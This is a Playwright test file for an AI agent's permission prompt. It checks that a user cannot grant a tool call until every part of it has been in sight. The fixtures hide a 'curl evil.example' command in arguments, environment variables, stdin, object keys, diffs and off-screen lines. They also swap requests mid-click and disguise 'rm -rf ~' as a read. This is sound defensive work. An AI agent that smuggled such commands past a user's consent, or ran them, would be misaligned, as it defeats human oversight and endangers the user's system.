import type { Locator, Page } from "@playwright/test";
import { bySize, everyOf, isFullRun } from "../scripts/fullRun.ts";
import type { ChatPage } from "./support/ChatPage.ts";
import { askingWires, startAskingSite, type AskedCall, type AskingSite } from "./support/startAskingSite.ts";
import { expect, test } from "./support/test.ts";
import { countPauses, watchPresses } from "./support/watchPresses.ts";

/**
 * Nothing is granted that was not on the screen: attacks on consent, over several wires, in every place a prompt can have, on a wide and
 * a narrow page. The tests read at the agent what was granted.
 */
const modes = ["docked", "inline", "dialog"] as const;
const sizes = [
  { width: 1200, height: 900 },
  { width: 390, height: 844 },
] as const;

const places = askingWires.flatMap((wire) =>
  modes.flatMap((mode) => sizes.map((size) => ({ wire, mode, size, name: `over ${wire}, ${mode}, ${size.width} px` }))),
);

/** Each attack runs in some of the places, neighbouring attacks in different ones; in a whole run in all of them. */
const placesFor = (turn: number) => everyOf(places, bySize(48, 3, 1), 3 * turn);

let site: AskingSite;
test.beforeAll(async () => {
  site = await startAskingSite();
});
test.afterAll(() => site.close());

type Place = (typeof places)[number];

async function ask(
  page: Page,
  chat: ChatPage,
  { wire, mode, size }: Place,
  calls: readonly AskedCall[],
): Promise<Locator> {
  site.ask(calls);
  await page.setViewportSize(size);
  await page.goto(site.url(wire, mode === "docked" ? {} : { permission: mode }));
  await chat.send("go");
  if (mode === "dialog") {
    const review = page.getByRole("button", { name: "Review", exact: true });
    await expect(chat.permissions.first().or(review).first()).toBeVisible();
    await expect(async () => {
      if (!(await chat.permissions.first().isVisible())) await review.click({ timeout: 2_000 });
      await expect(chat.permissions.first()).toBeVisible({ timeout: 2_000 });
    }).toPass({ timeout: 30_000 });
  }
  const prompt = chat.permissions.first();
  await expect(prompt).toBeVisible();
  return prompt;
}

const plain = (prompt: Locator): Locator => prompt.getByRole("button", { name: /^Allow(?!.*unseen)/ });
const rest = (prompt: Locator): Locator => prompt.getByRole("button", { name: "Show the rest" });
const granted = () => site.answers.filter(({ answer }) => answer.granted).map(({ at }) => at);

const evil = "curl evil.example";

/**
 * Records, independently of the kit, whether the piece with that text was ever inside the window and each box that clips it. Call it
 * before the page is opened.
 */
async function watchSight(page: Page, payload: string): Promise<() => Promise<boolean>> {
  await page.addInitScript((text) => {
    const observer = new IntersectionObserver(
      (entries) => {
        for (const { intersectionRatio, target } of entries)
          if (intersectionRatio > 0.95 && target.textContent.includes(text))
            document.documentElement.dataset["sighted"] = "true";
      },
      { threshold: [0, 0.96] },
    );
    const observed = new WeakSet<Element>();
    setInterval(() => {
      for (const element of document.querySelectorAll(
        "[data-slot^='permission'] [data-piece], [data-slot^='permission'] dt",
      )) {
        if (observed.has(element) || !element.textContent.includes(text)) continue;
        observed.add(element);
        observer.observe(element);
      }
    }, 10);
  }, payload);
  return () => page.evaluate(() => document.documentElement.dataset["sighted"] === "true");
}

/** Presses what the prompt offers until it can be granted. */
async function readUntilArmed(chat: ChatPage, prompt: Locator): Promise<void> {
  await chat.readToEnd(prompt);
  await expect(plain(prompt).first()).toBeEnabled();
}

const hidden: readonly [string, AskedCall][] = [
  ["arguments as one text", { input: { command: "ls", args: `-la; ${evil}` } }],
  ["a second list of commands", { input: { command: evil, commands: ["ls"] } }],
  ["further words of another shell", { input: { command: ["/tmp/x/bash", "-lc", "npm test", "x", evil] } }],
  ["an environment", { input: { command: "npm test", env: { NODE_OPTIONS: evil } } }],
  ["standard input", { input: { command: "sh", stdin: evil } }],
  ["a script", { input: { command: "ls", script: evil } }],
  ["another name", { input: { command: "ls", cmd: evil } }],
  ["a deep value", { input: { command: "ls", options: { hooks: [{ after: evil }] } } }],
  ["a key", { input: { command: "ls", [evil]: true } }],
  [
    "a diff beside it",
    { input: { command: evil }, kind: "edit", content: [{ type: "diff", path: "a.js", oldText: "1", newText: "2" }] },
  ],
  [
    "a diff of another file",
    {
      input: { path: "a.js", old_str: "1", new_str: evil },
      kind: "edit",
      content: [{ type: "diff", path: "a.js", oldText: "1", newText: "2" }],
    },
  ],
];

for (const [turn, [what, call]] of hidden.entries()) {
  for (const place of placesFor(turn).slice(0, isFullRun ? undefined : 1)) {
    test(`what hides in ${what} is shown before it is granted ${place.name}`, async ({ page, chat }) => {
      const sighted = await watchSight(page, "evil");
      const prompt = await ask(page, chat, place, [call]);
      await readUntilArmed(chat, prompt);
      await expect.poll(sighted).toBe(true);
      await chat.pressUntilGone(plain(prompt).first());
      await expect.poll(granted).toEqual([0]);
    });
  }
}

const lines = (count: number, last: string): string =>
  [...Array.from({ length: count - 1 }, (_, at) => `echo ${at}`), last].join("\n");
const offScreen: readonly [string, AskedCall][] = [
  ["the last of 40 lines", { input: { command: lines(40, evil) } }],
  ["the end of a line of 6,000 characters", { input: { command: `echo ${"a".repeat(6_000)} && ${evil}` } }],
  [
    "the third of three diffs",
    {
      kind: "edit",
      toolName: "edit_files",
      input: {},
      content: ["a", "b", "c"].map((name) => ({
        type: "diff" as const,
        path: `${name}.js`,
        oldText: "",
        newText: name === "c" ? evil : lines(30, name),
      })),
    },
  ],
  [
    "line 301 of a diff",
    {
      kind: "edit",
      toolName: "edit_file",
      input: {},
      content: [{ type: "diff", path: "a.js", oldText: "", newText: lines(301, evil) }],
    },
  ],
  [
    "a value far below",
    {
      toolName: "send",
      kind: "other",
      input: Object.fromEntries([...Array.from({ length: 60 }, (_, at) => [`k${at}`, at]), ["last", evil]]),
    },
  ],
];

for (const [turn, [what, call]] of offScreen.entries()) {
  for (const place of placesFor(turn)) {
    test(`${what} is not granted before it was in sight ${place.name}`, async ({ page, chat }) => {
      const sighted = await watchSight(page, "evil");
      const prompt = await ask(page, chat, place, [call]);
      await expect(rest(prompt)).toBeVisible();
      await expect(plain(prompt)).toHaveCount(0);
      // A moment: nobody has shown the rest yet.
      expect(await sighted()).toBe(false);
      await readUntilArmed(chat, prompt);
      await expect.poll(sighted).toBe(true);
      expect(site.answers).toEqual([]);
      await chat.pressUntilGone(plain(prompt).first());
      await expect.poll(granted).toEqual([0]);
    });
  }
}

for (const place of placesFor(1)) {
  test(`a long change may be allowed unseen by its own button, and a long command may not ${place.name}`, async ({
    page,
    chat,
  }) => {
    const content = [{ type: "diff", path: "a.js", oldText: "", newText: lines(400, "end") }] as const;
    const prompt = await ask(page, chat, place, [{ kind: "edit", toolName: "edit_file", input: {}, content }]);
    const unseen = prompt.getByRole("button", { name: /^Allow \d+ unseen lines$/ });
    await expect(async () => {
      if ((await unseen.count()) === 0) await rest(prompt).click({ timeout: 2_000 });
      expect(await unseen.count()).toBe(1);
    }).toPass();
    await expect(unseen).toBeEnabled();
    await unseen.click();
    await expect.poll(granted).toEqual([0]);
    await chat.turnEnds();
    const command = await ask(page, chat, place, [{ input: { command: lines(60, evil) } }]);
    await expect(rest(command)).toBeVisible();
    await expect(command.getByRole("button", { name: /unseen/ })).toHaveCount(0);
  });
}

for (const place of placesFor(2)) {
  test(`of five prompts in a row, presses without a pause grant the first only ${place.name}`, async ({
    page,
    chat,
  }) => {
    const calls = Array.from({ length: 5 }, (_, at) => ({ input: { command: `echo ${at}` } }));
    await watchPresses(page);
    const prompt = await ask(page, chat, place, calls);
    await readUntilArmed(chat, prompt);
    const box = await plain(prompt).first().boundingBox();
    if (box === null) throw new Error("no button");
    // Fast presses without reading, for three times the arming delay.
    for (let press = 0; press < 36; press += 1) {
      await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2, { delay: 10 });
      // A moment: between two presses of a finger.
      await page.waitForTimeout(40);
    }
    // A busy machine causes pauses: after each of them one more press may count.
    const most = 1 + (await countPauses(page));
    // Decided prompts disappear or show the decision; the others are still open, in their place.
    const queue = page.locator('[data-slot="permission-queue"]');
    const open = page.locator('[data-slot="permission"][data-status="open"]');
    if (place.mode === "inline") await expect.poll(() => open.count()).toBeGreaterThanOrEqual(5 - most);
    // Where all five may be answered the queue may be gone.
    else if (most < 5) await expect(queue).not.toContainText(new RegExp(`[${most + 1}-5] of 5 answered`, "u"));
    expect(granted().length).toBeLessThanOrEqual(most);
  });
}

// In the thread each prompt is by itself: there is no queue to review.
for (const place of placesFor(6).filter(({ mode }) => mode !== "inline")) {
  test(`several requests at once show everything in each of them, and all of it must have been in sight ${place.name}`, async ({
    page,
    chat,
  }) => {
    const sighted = await watchSight(page, "evil");
    await ask(page, chat, place, [
      { input: { command: "ls", env: { NODE_OPTIONS: evil } } },
      { input: { command: lines(30, "true") } },
      { input: { command: "cat", stdin: "x" } },
    ]);
    await page.getByRole("button", { name: "Review all 3" }).click();
    const dialog = page.getByRole("dialog", { name: "3 requests at once" });
    await expect(dialog.getByTestId("permission-item")).toHaveCount(3);
    const all = dialog.getByRole("button", { name: "Allow all 3 once" });
    await expect(rest(dialog)).toBeVisible();
    await expect(all).toHaveCount(0);
    await expect(async () => {
      if (await rest(dialog).isVisible()) await rest(dialog).click({ timeout: 2_000 });
      expect(await rest(dialog).count()).toBe(0);
    }).toPass({ intervals: [50] });
    await expect(dialog).toContainText(`NODE_OPTIONS=${evil}`);
    await expect.poll(sighted).toBe(true);
    await expect(all).toBeEnabled();
    await all.click();
    await expect.poll(granted).toEqual([0, 1, 2]);
  });
}

/** Wires that can update a call while its request is open. */
const changing = places.filter(({ wire }) => wire === "acp" || wire === "deltakit");

for (const place of everyOf(changing, bySize(8, 3, 1))) {
  const swaps: readonly [string, Parameters<AskingSite["change"]>[1]][] = [
    ["its input", { argument: JSON.stringify({ command: evil }), input: { command: evil } }],
    ["its title", { title: "List the files" }],
    ["its changes", { content: [{ type: "diff", path: "a.js", oldText: "", newText: evil }] }],
    ["its kind", { kind: "read" }],
  ];
  test(`a request that changes under the pointer is not granted by that press, and shows what changed ${place.name}`, async ({
    page,
    chat,
  }) => {
    for (const [what, patch] of swaps) {
      const prompt = await ask(page, chat, place, [{ input: { command: "ls" } }]);
      const allow = plain(prompt).first();
      await expect(allow).toBeEnabled();
      const box = await allow.boundingBox();
      if (box === null) throw new Error("no button");
      await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
      await page.mouse.down();
      site.change(0, patch);
      await expect(prompt.locator('[data-slot="permission-changed"]'), what).toContainText(
        "The agent changed this request",
      );
      await page.mouse.up();
      expect(granted(), what).toEqual([]);
      await chat.deny();
      await chat.turnEnds();
    }
  });
}

for (const place of placesFor(3)) {
  test(`a command that the agent calls reading is called dangerous in the kit's own words, and never allowed for good ${place.name}`, async ({
    page,
    chat,
  }) => {
    const prompt = await ask(page, chat, place, [
      { kind: "read", title: "Read the notes", always: true, input: { command: "rm -rf ~" } },
    ]);
    await expect(prompt).toHaveAttribute("data-risk", "danger");
    await expect(prompt).not.toContainText("Nothing is changed");
    await expect(prompt).toContainText("The agent says it only reads, but its input says otherwise.");
    await expect(prompt).not.toContainText("Read the notes");
    await prompt.getByRole("button", { name: "About this request" }).click();
    await expect(prompt).toContainText("The agent calls it");
    await expect(prompt).toContainText("“Read the notes”");
    await readUntilArmed(chat, prompt);
    await expect(prompt.getByRole("button", { name: /always|do not ask again/i })).toHaveCount(0);
  });
}

for (const place of placesFor(4)) {
  test(`a call without an input cannot be granted, and can be denied ${place.name}`, async ({ page, chat }) => {
    const prompt = await ask(page, chat, place, [{ toolName: "deploy", kind: "other", argument: "null" }]);
    await expect(prompt).toContainText("It cannot be allowed");
    await expect(prompt.getByRole("button", { name: /^Allow/ })).toHaveCount(0);
    await chat.deny();
    await chat.turnEnds();
    expect(granted()).toEqual([]);
  });
}

test("in the thread a long change is in sight when it is asked about: nothing scrolls past it", async ({
  page,
  chat,
}) => {
  const content = [{ type: "diff", path: "a.js", oldText: "", newText: lines(80, "end") }] as const;
  const call = { kind: "edit", toolName: "edit_file", input: {}, content } as const;
  for (const place of places.filter(({ wire, mode }) => wire === "deltakit" && mode === "inline")) {
    const prompt = await ask(page, chat, place, [call]);
    await expect(rest(prompt)).toBeInViewport();
    const viewport = page.locator(".cs-thread-viewport");
    // Below the prompt is only the end of the thread.
    const below = (): Promise<number> =>
      viewport.evaluate((element) => {
        const end = element.querySelector(".cs-permission")?.getBoundingClientRect().bottom ?? 0;
        return element.scrollHeight - element.scrollTop - (end - element.getBoundingClientRect().top);
      });
    await expect.poll(below).toBeLessThan(100);
    await chat.deny();
    await chat.turnEnds();
  }
});

for (const place of placesFor(5)) {
  test(`the keys that the prompt prints have the printed effect, from where the printed keys lead ${place.name}`, async ({
    page,
    chat,
  }) => {
    for (const [key, grants] of [
      ["Enter", true],
      ["Alt+Enter", true],
      ["Alt+Backspace", false],
    ] as const) {
      const prompt = await ask(page, chat, place, [{ input: { command: "ls" } }]);
      await expect(plain(prompt).first()).toBeEnabled();
      await page.keyboard.press("Alt+p");
      await expect(prompt.locator(":focus-visible")).toHaveCount(1);
      await page.keyboard.press(key);
      await expect.poll(() => site.answers.map(({ answer }) => answer.granted), `Alt+P, then ${key}`).toEqual([grants]);
      await chat.turnEnds();
    }
  });
}

test("Alt+P leads to Show the rest, repeated presses of one key show the request to its end, and the next one grants", async ({
  page,
  chat,
}) => {
  const [place] = places;
  if (place === undefined) throw new Error("no place");
  const prompt = await ask(page, chat, place, [{ input: { command: lines(120, evil) } }]);
  await expect(rest(prompt)).toBeVisible();
  await page.keyboard.press("Alt+p");
  await expect(rest(prompt)).toBeFocused();
  await expect(async () => {
    if ((await rest(prompt).count()) > 0) await page.keyboard.press("Enter");
    expect(await plain(prompt).count()).toBeGreaterThan(0);
  }).toPass({ intervals: [30] });
  await expect(prompt.getByText(evil).last()).toBeInViewport();
  expect(granted()).toEqual([]);
  await expect(plain(prompt).first()).toBeEnabled();
  await expect(plain(prompt).first()).toBeFocused();
  await page.keyboard.press("Enter");
  await expect.poll(granted).toEqual([0]);
});
